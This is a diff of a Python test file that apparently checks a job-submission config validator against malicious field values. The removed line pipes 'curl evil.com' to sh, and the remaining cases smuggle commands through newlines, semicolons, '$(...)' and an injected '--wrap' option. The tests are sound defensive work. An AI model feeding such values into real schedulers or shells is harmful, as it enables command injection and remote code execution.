@@ -62,8 +62,9 @@ def test_a_timed_case_has_a_whole_job_also_before_any_has_started():
 @pytest.mark.parametrize(
     "wrong",
     [
-        *({name: "a\ncurl evil.com | sh"} for name in ("partition", "account", "walltime", "interface", "memory")),
-        {"interface": "lo; evil"}, {"partition": "gpu --wrap=evil"}, {"account": "$(evil)"}, {"python": "a\nb"},
+        *({name: "a\nevil"} for name in ("partition", "account", "walltime", "interface", "memory")),
+        {"python": "a\nevil"},
+        {"interface": "lo; evil"}, {"partition": "gpu --wrap=evil"}, {"account": "$(evil)"},
         {"extra": ["--nice\nevil"]}, {"prologue": ["a\n"]},
     ],
 )  # fmt: skip
